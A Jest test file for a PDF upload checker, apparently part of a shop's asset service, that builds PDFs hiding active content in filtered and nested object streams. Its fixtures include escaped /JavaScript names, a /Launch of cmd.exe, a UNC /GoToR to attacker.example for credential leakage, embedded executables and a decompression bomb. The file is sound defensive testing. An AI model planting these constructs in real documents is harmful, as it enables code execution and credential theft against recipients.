/**
 * The PDF check: active content hidden in object streams behind every
 * standard filter, their abbreviations and chains, with names escaped, actions in /AA, nested
 * object streams; what the check cannot read refused; ordinary PDFs still accepted.
 */
import { describe, expect, it } from '@jest/globals';
import { deflateSync } from 'node:zlib';
import { checkPdf } from '../../../server/services/assets/pdfCheck';
import {
  ascii85Encode,
  asciiHexEncode,
  HARMLESS_OBJECTS,
  OPEN_ACTION_SCRIPT,
  paddedPdf,
  pdfWithAction,
  pdfWithCompressedScript,
  pdfWithObjectStream,
  simplePdf,
  type PdfFilterName,
} from './fileMakers';

const CHAINS: PdfFilterName[][] = [
  [],
  ['ASCIIHexDecode'],
  ['AHx'],
  ['ASCII85Decode'],
  ['A85'],
  ['FlateDecode'],
  ['Fl'],
  ['LZWDecode'],
  ['LZW'],
  ['RunLengthDecode'],
  ['RL'],
  ['A85', 'Fl'],
  ['AHx', 'LZW'],
  ['RL', 'AHx', 'Fl'],
  ['A85', 'LZW', 'RL'],
];
const label = (chain: PdfFilterName[]) => (chain.length ? chain.join(' + ') : 'no filter');

const catalogWith = (entries: string) => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`;

/** The objects of an object stream: the text of a stream object (data unfiltered or A85). */
function streamObject(dict: string, data: Buffer): string {
  return `<< ${dict} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

/** An object stream's content (header of numbers and offsets, then the objects). */
function objectStreamContent(objects: Record<number, string>): { text: string; first: number } {
  let offset = 0;
  const bodies = Object.values(objects).map((body) => `${body}\n`);
  const header = Object.keys(objects)
    .map((n, i) => {
      const pair = `${n} ${offset}`;
      offset += bodies[i]!.length;
      return pair;
    })
    .join(' ');
  return { text: `${header}\n${bodies.join('')}`, first: header.length + 1 };
}

/** An object stream inside an object stream, `depth` deep, the innermost holding `objects`. */
function nestedObjectStreams(
  objects: Record<number, string>,
  depth: number,
): Record<number, string> {
  let current = objects;
  for (let level = 0; level < depth; level += 1) {
    const { text, first } = objectStreamContent(current);
    const data = ascii85Encode(Buffer.from(text, 'latin1'));
    current = {
      [20 + level]: streamObject(
        `/Type /ObjStm /N ${Object.keys(current).length} /First ${first} /Filter /A85`,
        data,
      ),
    };
  }
  return current;
}

describe('PDF check: active content hidden in object streams', () => {
  it.each(CHAINS.map((chain) => [label(chain), chain] as const))(
    'finds an /OpenAction script under %s',
    (_label, chain) => {
      expect(checkPdf(pdfWithObjectStream({ filters: [...chain] }))).toBe('active');
      expect(checkPdf(pdfWithObjectStream({ filters: [...chain], hidden: HARMLESS_OBJECTS }))).toBe(
        'ok',
      );
    },
  );

  it.each([['FlateDecode'], ['LZWDecode']] as const)(
    'finds it under %s with a PNG predictor',
    (filter) => {
      const options = { filters: [filter] as PdfFilterName[], columns: 9 };
      expect(checkPdf(pdfWithObjectStream(options))).toBe('active');
      expect(checkPdf(pdfWithObjectStream({ ...options, hidden: HARMLESS_OBJECTS }))).toBe('ok');
      expect(checkPdf(pdfWithObjectStream({ filters: ['AHx', filter], columns: 5 }))).toBe(
        'active',
      );
    },
  );

  const HOSTILE: [string, () => Buffer][] = [
    [
      'escaped names in an object stream (/J#61vaScript, /J#53)',
      () =>
        pdfWithObjectStream({
          filters: ['AHx'],
          hidden: {
            ...OPEN_ACTION_SCRIPT,
            10: '<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>',
          },
        }),
    ],
    [
      'names ended by NUL (PDF white space)',
      () => pdfWithAction('<< /S /JavaScript\0/JS\0(app.alert(1)) >>'),
    ],
    [
      'a document action (/AA) running a script',
      () =>
        pdfWithObjectStream({
          filters: ['A85'],
          hidden: { ...OPEN_ACTION_SCRIPT, 1: catalogWith('/AA << /WC 10 0 R >>') },
        }),
    ],
    [
      'a page-open action (/AA) opening a file on a share (credentials leak)',
      () =>
        pdfWithObjectStream({
          filters: ['LZW'],
          hidden: {
            1: catalogWith('/AA << /DS 10 0 R >>'),
            10: '<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
          },
        }),
    ],
    [
      'a program launched on opening',
      () =>
        pdfWithObjectStream({
          filters: ['RL', 'AHx'],
          hidden: {
            ...OPEN_ACTION_SCRIPT,
            10: '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
          },
        }),
    ],
    [
      'an embedded file',
      () =>
        pdfWithObjectStream({
          filters: ['Fl', 'A85'],
          hidden: {
            1: catalogWith('/Names << /EmbeddedFiles 10 0 R >>'),
            10: '<< /Names [(cv.exe) 11 0 R] >>',
            11: '<< /Type /Filespec /F (cv.exe) /EF << /F 13 0 R >> >>',
          },
        }),
    ],
    [
      'an XFA form',
      () =>
        pdfWithObjectStream({
          filters: ['AHx'],
          hidden: { 1: catalogWith('/AcroForm 10 0 R'), 10: '<< /Fields [] /XFA 11 0 R >>' },
        }),
    ],
    [
      'rich media (Flash) with its own script',
      () =>
        pdfWithObjectStream({
          filters: ['A85'],
          hidden: {
            ...HARMLESS_OBJECTS,
            10: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>',
          },
        }),
    ],
    [
      'an object stream that does not say /Type /ObjStm',
      () => pdfWithObjectStream({ filters: ['AHx'], typeEntry: '' }),
    ],
    [
      'an object stream whose type is escaped',
      () => pdfWithObjectStream({ filters: ['A85'], typeEntry: '/Type /Obj#53tm' }),
    ],
    [
      'an object stream inside an object stream',
      () =>
        pdfWithObjectStream({
          filters: ['AHx'],
          hidden: {
            1: OPEN_ACTION_SCRIPT[1]!,
            ...nestedObjectStreams({ 10: OPEN_ACTION_SCRIPT[10]! }, 1),
          },
        }),
    ],
    [
      'object streams nested deeper than the check reads (even harmless ones)',
      () =>
        pdfWithObjectStream({
          filters: ['AHx'],
          hidden: {
            1: HARMLESS_OBJECTS[1]!,
            ...nestedObjectStreams({ 10: HARMLESS_OBJECTS[10]! }, 5),
          },
        }),
    ],
    [
      'a comment between the dictionary and its stream keyword',
      () => pdfWithObjectStream({ filters: ['AHx'], beforeData: '\n% nothing to see\nstream\n' }),
    ],
    [
      'a stream keyword ended by a lone CR',
      () => pdfWithObjectStream({ filters: ['AHx'], beforeData: '\nstream\r' }),
    ],
    ['an indirect /Length', () => pdfWithObjectStream({ filters: ['A85'], lengthRef: 'written' })],
  ];

  it.each(HOSTILE)('finds it with %s', (_label, make) => {
    expect(checkPdf(make())).toBe('active');
  });

  it('still finds scripts in plain objects and deflated object streams', () => {
    expect(checkPdf(pdfWithAction('<< /S /JavaScript /JS (app.alert(1)) >>'))).toBe('active');
    expect(checkPdf(pdfWithAction('<< /S /Launch /F (calc.exe) >>'))).toBe('active');
    expect(checkPdf(pdfWithCompressedScript())).toBe('active');
  });
});

describe('PDF check: what it cannot read is refused', () => {
  const plain = Buffer.from('1 0 10 60\n<< /Type /Catalog >>\n', 'latin1');
  const UNREADABLE: [string, () => Buffer][] = [
    [
      'an object stream under an image filter',
      () => pdfWithObjectStream({ rawData: plain, extraEntries: ' /Filter /DCTDecode' }),
    ],
    [
      'an object stream under Crypt',
      () => pdfWithObjectStream({ rawData: plain, extraEntries: ' /Filter /Crypt' }),
    ],
    [
      'an object stream under an unknown filter',
      () => pdfWithObjectStream({ rawData: plain, extraEntries: ' /Filter /Foo' }),
    ],
    [
      'an object stream whose filter is an indirect object',
      () => pdfWithObjectStream({ rawData: plain, extraEntries: ' /Filter 14 0 R' }),
    ],
    [
      'an object stream that does not decode (a stray character in hex)',
      () =>
        pdfWithObjectStream({
          rawData: Buffer.concat([Buffer.from('x'), asciiHexEncode(plain)]),
          extraEntries: ' /Filter /AHx',
        }),
    ],
    [
      'an object stream whose ASCII85 opens with <~ (read two ways)',
      () =>
        pdfWithObjectStream({
          rawData: Buffer.concat([Buffer.from('<~'), ascii85Encode(plain)]),
          extraEntries: ' /Filter /A85',
        }),
    ],
    [
      'an object stream whose /Length reaches past an endstream in its data',
      () =>
        pdfWithObjectStream({
          rawData: Buffer.concat([
            asciiHexEncode(Buffer.from('1 0 ')).subarray(0, -1),
            Buffer.from('\nendstream\n'),
            asciiHexEncode(Buffer.from('<< /S /JavaScript /JS (1) >>')),
          ]),
          extraEntries: ' /Filter /AHx',
        }),
    ],
    [
      'an object stream whose indirect /Length is nowhere',
      () =>
        pdfWithObjectStream({ filters: ['Fl'], hidden: HARMLESS_OBJECTS, lengthRef: 'missing' }),
    ],
    [
      'an object stream inflating past 16 MB (a bomb)',
      () =>
        pdfWithObjectStream({
          rawData: deflateSync(Buffer.alloc(24 * 1024 * 1024, 0x20)),
          extraEntries: ' /Filter /FlateDecode',
        }),
    ],
    [
      'stream data kept in another file (/F)',
      () =>
        pdfWithObjectStream({
          filters: ['Fl'],
          hidden: HARMLESS_OBJECTS,
          extraEntries: ' /F (\\\\\\\\attacker.example\\\\x)',
        }),
    ],
    [
      'an encrypted file with object streams',
      () =>
        pdfWithObjectStream({
          filters: ['Fl'],
          hidden: HARMLESS_OBJECTS,
          trailerEntries: ' /Encrypt 13 0 R',
        }),
    ],
    [
      'something after the stream keyword on its line',
      () =>
        pdfWithObjectStream({
          filters: ['AHx'],
          hidden: HARMLESS_OBJECTS,
          beforeData: '\nstream junk\n',
        }),
    ],
    [
      'a stream dictionary nested past reason',
      () =>
        pdfWithObjectStream({
          filters: ['Fl'],
          hidden: HARMLESS_OBJECTS,
          extraEntries: ` /X ${'['.repeat(5000)}${']'.repeat(5000)}`,
        }),
    ],
  ];

  it.each(UNREADABLE)('refuses %s', (_label, make) => {
    expect(checkPdf(make())).toBe('active');
  });

  it('stops early on a file built to make it work hard (many stream keywords, long comments)', () => {
    const body = `%${'% stream '.repeat(400_000)}\n`;
    const clean = simplePdf().toString('latin1');
    const file = Buffer.from(clean.replace('1 0 obj', `${body}1 0 obj`), 'latin1');
    const started = Date.now();
    expect(checkPdf(file)).toBe('active');
    expect(Date.now() - started).toBeLessThan(20_000);
  });
});

describe('PDF check: ordinary PDFs stay accepted', () => {
  /** A one-page PDF with `objects` added before its cross-reference table. */
  function withObjects(objects: string[]): Buffer {
    const clean = simplePdf().toString('latin1');
    const at = clean.lastIndexOf('xref');
    const added = objects.map((body, i) => `${40 + i} 0 obj\n${body}\nendobj\n`).join('');
    return Buffer.from(`${clean.slice(0, at)}${added}${clean.slice(at)}`, 'latin1');
  }
  const jpegLike = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(300, 0x7f)]);

  it.each([
    ['the shop’s own PDFs', () => simplePdf()],
    ['a 2 MB PDF', () => paddedPdf(2 * 1024 * 1024)],
    [
      'a photo (DCTDecode), a font program and a colour profile (Flate), a broken page content',
      () =>
        withObjects([
          streamObject(
            '/Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode',
            jpegLike,
          ),
          streamObject('/Length1 300 /Filter /FlateDecode', deflateSync(Buffer.alloc(300, 1))),
          streamObject(
            '/N 3 /Alternate /DeviceRGB /Filter /FlateDecode',
            deflateSync(Buffer.alloc(500, 2)),
          ),
          streamObject('/Filter /FlateDecode', Buffer.from('not deflate at all')),
        ]),
    ],
    [
      'links to the web, a destination to open on, text about streams and scripts',
      () =>
        withObjects([
          '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.example.be/cv) >> >>',
          '<< /D [6 0 R /XYZ null null 0] >>',
          streamObject(
            '',
            Buffer.from('BT /F1 12 Tf (I write JavaScript; a stream of ideas) Tj ET'),
          ),
        ]),
    ],
    [
      'object streams under every filter with an indirect /Length',
      () =>
        pdfWithObjectStream({
          filters: ['A85', 'Fl'],
          hidden: HARMLESS_OBJECTS,
          lengthRef: 'written',
        }),
    ],
    [
      'thousands of small streams',
      () =>
        withObjects(
          Array.from({ length: 20_000 }, (_v, i) =>
            streamObject(
              '/Filter /AHx',
              Buffer.from(`${(i % 256).toString(16).padStart(2, '0')}>`),
            ),
          ),
        ),
    ],
  ])('accepts %s', (_label, make) => {
    expect(checkPdf(make())).toBe('ok');
  });
});
